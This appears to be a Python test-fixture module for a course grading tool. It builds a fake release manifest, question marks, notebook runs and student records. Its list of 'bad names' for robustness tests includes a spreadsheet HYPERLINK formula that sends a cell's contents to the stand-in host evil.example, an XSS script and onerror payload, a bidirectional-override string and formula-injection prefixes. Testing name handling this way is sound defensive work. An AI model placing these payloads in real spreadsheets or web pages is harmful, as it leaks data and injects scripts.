"""A made-up release, and records of students with good and bad names."""

from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

from exposure_lab.course.grading.formative.result import CheckLine, Formative, Stop
from exposure_lab.course.grading.record import PartMark, QuestionMark, Record, WrittenMark
from exposure_lab.course.release.manifest import (
    Manifest,
    ManifestChapter,
    ManifestQuestion,
    ManifestWritten,
    Tolerance,
)

PARTS = {"01.scale": {"positive values": 2, "negative values": 1}, "02.way-up": {"the shape": 4}}
DUE = datetime(2027, 3, 1, 18, tzinfo=UTC)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
REVERSED = "Ana \u202egnirts\u202c Marker"
LONG = "Wolfeschlegelsteinhausenbergerdorff " * 9
JAPANESE = "山田 花子"
EMOJI = "Zoë 👩\u200d🔬🇯🇵"
BAD_NAMES = (FORMULA, SCRIPT, REVERSED, LONG, JAPANESE, EMOJI, "@sum(1)", "-2+3", "+1", "\tTab")


def made_up_manifest() -> Manifest:
    """A release of two chapters with a question each; the first has a text too: 9 points."""
    questions = tuple(
        ManifestQuestion(
            id=identity,
            chapter=identity[:2],
            cell_id=f"answer-{identity}",
            points=sum(parts.values()),
            name="answer",
            tier="A",
            parts=parts,
            variant={},
            stub="def answer(values):",
            leaves_out=(),
            tolerance=Tolerance(relative=1e-4, absolute=1e-5),
        )
        for identity, parts in PARTS.items()
    )
    text = ManifestWritten(id="01.in-your-words", chapter="01", cell_id="text", points=2)
    chapters = (("01", "Exposure"), ("02", "Generator"))
    return Manifest(
        seed=5,
        version="1.0",
        commit="0" * 40,
        chapters=tuple(
            ManifestChapter(file=f"{n}.ipynb", number=n, title=t, sha256="0" * 64, setup="")
            for n, t in chapters
        ),
        questions=questions,
        written=(text,),
    ).sealed()


def question_mark(identity: str, lost: Sequence[str] = (), **more: Any) -> QuestionMark:
    """Mark of a question in which these parts earned nothing."""
    parts = tuple(
        PartMark(
            part=part,
            points=points,
            earned=0 if part in lost else points,
            reason="Expected the scaled values, but they were divided." if part in lost else "",
        )
        for part, points in PARTS[identity].items()
    )
    return QuestionMark(id=identity, tier="A", parts=parts, **more)


def made_up_run(stop: Stop | None = None, *, chapter: str = "01", **more: Any) -> Formative:
    """Run of a whole notebook of twenty cells, which came to its end where it did not stop."""
    checks = (CheckLine(question=f"{chapter}.scale", line=f"{chapter}.scale: right, 3 points."),)
    settings: dict[str, Any] = {"allowed": 60, "seconds": 12.4, "cells": 20, "checks": checks}
    ran = 20 if stop is None else max(0, stop.cell - 1)
    return Formative(answers="abc", release="r", ran=ran, stop=stop, **settings | more)


def made_up_record(
    student: str, chapter: str = "01", *, text: str = "Light is lost.", **more: Any
) -> Record:
    """Record of a chapter in which everything is right and the text waits for its mark."""
    written = (WrittenMark(id="01.in-your-words", points=2, text=text),)
    settings: dict[str, Any] = {
        "name": student,
        "questions": tuple(question_mark(one) for one in PARTS if one.startswith(chapter or "-")),
        "written": written if chapter == "01" else (),
        "seed": 987_654_321,
        "release": made_up_manifest().release,
        "seconds": 1.5,
    }
    return Record(student=student, chapter=chapter, **settings | more)
